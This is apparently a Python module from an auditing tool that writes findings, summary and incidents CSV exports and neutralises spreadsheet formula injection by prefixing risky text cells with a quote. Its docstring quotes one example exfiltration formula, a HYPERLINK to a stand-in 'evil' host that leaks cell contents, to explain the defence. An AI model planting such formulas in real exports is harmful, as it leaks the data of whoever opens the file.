"""CSV exports: ``findings.csv``, ``summary.csv`` and ``incidents.csv``.

Written with pandas' CSV writer (RFC 4180: CRLF line ends, so that a CR or LF inside a cell is
quoted too; UTF-8), never a template.
Timestamps are ISO 8601 UTC (``2026-11-23T01:00:00Z``); nulls are empty cells.

Formula injection
-----------------
A spreadsheet (Excel, LibreOffice, Google Sheets) runs a cell as a formula when it starts with
``=``, ``+``, ``-`` or ``@``, and some also after a leading tab or carriage return. Company names
and messages come from outside, so a company named ``=HYPERLINK("http://evil/?"&A1)`` could
leak data or run commands on the machine of whoever opens the CSV. Every **text** cell that
starts with one of these characters is prefixed with a single quote (``'``), which spreadsheets
show as text (OWASP's recommendation). Numeric columns (``age_hours``, counts, ...) are left
alone, so a negative number stays a number. The cost: a program reading the CSV sees the extra
``'`` on those few text cells; strip a leading ``'`` when the next character is one of
``= + - @ \\t \\r`` to get the original value back.
"""

from __future__ import annotations

import io
import re
from pathlib import Path
from typing import BinaryIO, Final

import numpy as np
import pandas as pd
import pyarrow as pa  # type: ignore[import-untyped]
import pyarrow.compute as pc  # type: ignore[import-untyped]

from auditor.findings import FINDINGS_COLUMNS, FINDINGS_SCHEMA
from auditor.result import AuditResult

__all__ = [
    "FORMULA_PREFIXES",
    "INCIDENT_COLUMNS",
    "SUMMARY_COLUMNS",
    "findings_frame",
    "incidents_frame",
    "neutralise_formulas",
    "summary_frame",
    "to_csv_bytes",
    "write_csv",
]

#: Leading characters that make a spreadsheet treat a cell as a formula.
FORMULA_PREFIXES: Final[str] = "=+-@\t\r"

#: Columns of ``summary.csv``: one row per rule × severity × platform (snoozed rows left out).
SUMMARY_COLUMNS: Final[tuple[str, ...]] = (
    "rule",
    "code",
    "severity",
    "platform",
    "findings",
    "companies",
    "new",
    "regressed",
    "ongoing",
)

#: Columns of ``incidents.csv``: one row per incident key, tonight's and resolved ones.
INCIDENT_COLUMNS: Final[tuple[str, ...]] = (
    "incident_key",
    "state",
    "rule",
    "code",
    "severity",
    "company_id",
    "company_name",
    "platform",
    "connection_id",
    "data_type",
    "group",
    "first_seen",
    "nights_open",
    "snoozed",
    "snooze_reason",
    "as_of",
)

_TIMESTAMP_FORMAT: Final[str] = "%Y-%m-%dT%H:%M:%SZ"
_FORMULA_PATTERN: Final[str] = "^[=+\\-@\t\r]"


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells cannot run as spreadsheet formulas (see module doc).

    Only text-like columns (string, object, category) are touched; numbers, booleans and
    timestamps keep their type. A categorical column is checked on its categories (a few
    distinct values, not one per row) and stays categorical.
    """
    out = frame.copy()
    for name in out.columns:
        col = out[name]
        if isinstance(col.dtype, pd.CategoricalDtype):
            out[name] = _neutral_categorical(col)
            continue
        if not (pd.api.types.is_string_dtype(col.dtype) or pd.api.types.is_object_dtype(col.dtype)):
            continue
        text = col.astype("string")
        hostile = text.str.contains(_FORMULA_PATTERN, regex=True).fillna(False).astype(bool)
        if hostile.any():
            out[name] = text.mask(hostile, "'" + text)
    return out


def _neutral_categorical(col: pd.Series) -> pd.Series:
    categories = pd.Series(col.cat.categories).astype("string")
    hostile = categories.str.contains(_FORMULA_PATTERN, regex=True).fillna(False).astype(bool)
    if not hostile.any():
        return col
    renamed = categories.mask(hostile, "'" + categories)
    if renamed.is_unique:  # "'=x" may already be a category: then prefix row by row
        return col.cat.rename_categories(list(renamed))
    text = col.astype("string")
    bad = text.str.contains(_FORMULA_PATTERN, regex=True).fillna(False).astype(bool)
    return text.mask(bad, "'" + text)


def _format_timestamps(frame: pd.DataFrame) -> pd.DataFrame:
    out = frame.copy()
    for name in out.columns:
        if isinstance(out[name].dtype, pd.DatetimeTZDtype) or pd.api.types.is_datetime64_dtype(
            out[name].dtype
        ):
            ts = pd.to_datetime(out[name], utc=True)
            # numpy formats whole seconds in C (pandas' strftime goes row by row in Python).
            seconds = (
                ts.dt.tz_convert(None).to_numpy(dtype="datetime64[ns]").astype("datetime64[s]")
            )
            text = pa.array(np.datetime_as_string(seconds, unit="s"), type=pa.string())
            stamped = pc.binary_join_element_wise(text, "Z", "")
            formatted = pd.Series(pd.arrays.ArrowStringArray(stamped), index=out.index)
            out[name] = formatted.mask(ts.isna().to_numpy())
    return out


def findings_frame(result: AuditResult) -> pd.DataFrame:
    """All of tonight's findings (snoozed ones too, flagged) in the fixed column order."""
    return result.findings.reindex(columns=list(FINDINGS_COLUMNS))


def summary_frame(result: AuditResult) -> pd.DataFrame:
    """Counts by rule × severity × platform, snoozed findings left out."""
    active = result.active
    if active.empty:
        return pd.DataFrame({c: pd.Series([], dtype="object") for c in SUMMARY_COLUMNS})
    keys = pd.DataFrame(
        {
            "rule": active["rule"].astype("string").fillna(""),
            "code": active["code"].astype("string").fillna(""),
            "severity": active["severity"].astype("string").fillna(""),
            "platform": active["platform"].astype("string").fillna(""),
            "company_id": active["company_id"].astype("string"),
            "state": active["state"].astype("string").fillna(""),
        }
    )
    for state in ("new", "regressed", "ongoing"):
        keys[state] = (keys["state"] == state).astype("int64")
    grouped = keys.groupby(["rule", "code", "severity", "platform"], sort=True).agg(
        findings=("company_id", "size"),
        companies=("company_id", "nunique"),
        new=("new", "sum"),
        regressed=("regressed", "sum"),
        ongoing=("ongoing", "sum"),
    )
    out = grouped.reset_index()
    sev_order = out["severity"].map({"error": 0, "warning": 1}).fillna(2)
    out = out.assign(_sev=sev_order).sort_values(["rule", "_sev", "platform"], kind="stable")
    return out[list(SUMMARY_COLUMNS)].reset_index(drop=True)


def incidents_frame(result: AuditResult) -> pd.DataFrame:
    """One row per incident key: tonight's (new/ongoing/regressed, snoozed flagged) and resolved."""
    frames = [
        f.reindex(columns=list(INCIDENT_COLUMNS))
        for f in (result.findings, result.resolved)
        if f is not None and not f.empty
    ]
    if not frames:
        return pd.DataFrame({c: pd.Series([], dtype=_dtype_of(c)) for c in INCIDENT_COLUMNS})
    both = pd.concat(
        [
            f.astype({c: "string" for c in f.columns if FINDINGS_SCHEMA.get(c) == "category"})
            for f in frames
        ],
        ignore_index=True,
    )
    # Tonight's row wins over a resolved row for the same key (it cannot be both).
    both = both.drop_duplicates(subset=["incident_key"], keep="first")
    state_rank = both["state"].map({"new": 0, "regressed": 1, "ongoing": 2, "resolved": 3})
    both = both.assign(_s=state_rank.fillna(4)).sort_values(["_s", "incident_key"], kind="stable")
    return both[list(INCIDENT_COLUMNS)].reset_index(drop=True)


def _dtype_of(column: str) -> str:
    kind = FINDINGS_SCHEMA.get(column, "str")
    return {"int": "Int64", "float": "float64", "bool": "boolean", "timestamp": "object"}.get(
        kind, "string"
    )


def to_csv_bytes(frame: pd.DataFrame) -> bytes:
    """``frame`` as safe CSV bytes (UTF-8, formulas neutralised, ISO timestamps)."""
    buffer = io.BytesIO()
    _write_safe_csv(frame, buffer)
    return buffer.getvalue()


def write_csv(frame: pd.DataFrame, path: Path) -> Path:
    """Write ``frame`` as safe CSV to ``path`` atomically (temp file, then rename)."""
    tmp = path.with_name(path.name + ".tmp")
    with tmp.open("wb") as out:
        _write_safe_csv(frame, out)
    tmp.replace(path)
    return path


#: Rows converted and written at a time by the vectorised writer (bounds its memory).
_CHUNK_ROWS: Final[int] = 50_000
#: A field csv.writer (QUOTE_MINIMAL, lineterminator CRLF) quotes: one holding a delimiter,
#: a quote or a line-end character.
_NEEDS_QUOTES: Final[str] = '[,"\r\n]'


def _write_safe_csv(frame: pd.DataFrame, out: BinaryIO) -> None:
    safe = neutralise_formulas(_format_timestamps(frame))
    if safe.shape[1] < 2 or not all(_vector_dtype(safe[c].dtype) for c in safe.columns):
        # pandas' writer: the reference for the bytes the vectorised writer produces.
        text = io.StringIO()
        safe.to_csv(text, index=False, lineterminator="\r\n")
        out.write(text.getvalue().encode("utf-8"))
        return
    header = ",".join(_quoted_text(str(c)) for c in safe.columns) + "\r\n"
    out.write(header.encode("utf-8"))
    for start in range(0, len(safe), _CHUNK_ROWS):
        chunk = safe.iloc[start : start + _CHUNK_ROWS]
        fields = [_csv_field(_cell_text(chunk[c])) for c in chunk.columns]
        joined = pc.binary_join_element_wise(*fields, _large(","))
        lines = pc.binary_join_element_wise(joined, _large("\r\n"), _large(""))
        out.write(_concatenated(lines))


def _vector_dtype(dtype: object) -> bool:
    """Dtypes the vectorised writer renders exactly as pandas + csv.writer do."""
    if isinstance(dtype, pd.CategoricalDtype | pd.StringDtype):
        return True
    if isinstance(dtype, pd.BooleanDtype) or _is_integer(dtype):
        return True
    return isinstance(dtype, np.dtype) and dtype.kind in "bfO"


def _is_integer(dtype: object) -> bool:
    """A numpy or nullable (``Int64``) integer dtype."""
    kinds = np.dtype | pd.api.extensions.ExtensionDtype
    return isinstance(dtype, kinds) and pd.api.types.is_integer_dtype(dtype)


def _cell_text(col: pd.Series) -> pa.Array:
    """Each cell as csv.writer writes it (``str`` of the value; missing: empty), unquoted.

    Large strings (64-bit offsets): a chunk's joined lines may pass 2 GB of text."""
    dtype = col.dtype
    if isinstance(dtype, pd.CategoricalDtype):
        categories = pa.array([str(c) for c in dtype.categories] + [""], type=pa.large_string())
        codes = col.cat.codes.to_numpy()
        return categories.take(pa.array(np.where(codes < 0, len(categories) - 1, codes)))
    if isinstance(dtype, pd.StringDtype):
        return pa.array(col.array, type=pa.large_string(), from_pandas=True).fill_null("")
    if isinstance(dtype, np.dtype) and dtype.kind == "f":
        values = col.to_numpy()
        text = values.astype(str)  # as pandas formats floats for CSV
        return pa.array(np.where(np.isnan(values), "", text), type=pa.large_string())
    missing = np.asarray(col.isna(), dtype=bool)
    if isinstance(dtype, pd.BooleanDtype) or (isinstance(dtype, np.dtype) and dtype.kind == "b"):
        truth = col.to_numpy(dtype=bool, na_value=False)
        return pa.array(np.where(missing, "", np.where(truth, "True", "False")), pa.large_string())
    if _is_integer(dtype):
        unsigned = getattr(dtype, "kind", "i") == "u"
        numbers = col.to_numpy(dtype=np.uint64 if unsigned else np.int64, na_value=0)
        return pa.array(np.where(missing, "", numbers.astype(str)), type=pa.large_string())
    values = np.asarray(col.array, dtype=object)
    return pa.array(
        [
            "" if gone else v if isinstance(v, str) else str(v)
            for v, gone in zip(values, missing, strict=True)
        ],
        type=pa.large_string(),
    )


def _csv_field(text: pa.Array) -> pa.Array:
    """``text`` quoted where csv.writer (QUOTE_MINIMAL) quotes it: inner quotes doubled."""
    needs = pc.match_substring_regex(text, _NEEDS_QUOTES)
    if not pc.any(needs).as_py():
        return text
    inner = (
        pc.replace_substring(text, '"', '""')
        if pc.any(pc.match_substring(text, '"')).as_py()
        else text
    )
    quote, empty = _large('"'), _large("")
    return pc.if_else(needs, pc.binary_join_element_wise(quote, inner, quote, empty), text)


def _large(value: str) -> pa.Scalar:
    return pa.scalar(value, type=pa.large_string())


def _quoted_text(text: str) -> str:
    if re.search(_NEEDS_QUOTES, text):
        return '"' + text.replace('"', '""') + '"'
    return text


def _concatenated(lines: pa.Array | pa.ChunkedArray) -> bytes:
    """The UTF-8 bytes of ``lines`` one after another (each string array's data buffer)."""
    chunks = lines.chunks if isinstance(lines, pa.ChunkedArray) else [lines]
    parts = []
    for chunk in chunks:
        array = chunk.cast(pa.large_string())
        if not len(array):
            continue
        _, offsets_buffer, data = array.buffers()
        offsets = np.frombuffer(offsets_buffer, dtype=np.int64)
        first, last = offsets[array.offset], offsets[array.offset + len(array)]
        parts.append(memoryview(data)[int(first) : int(last)])
    return b"".join(parts)
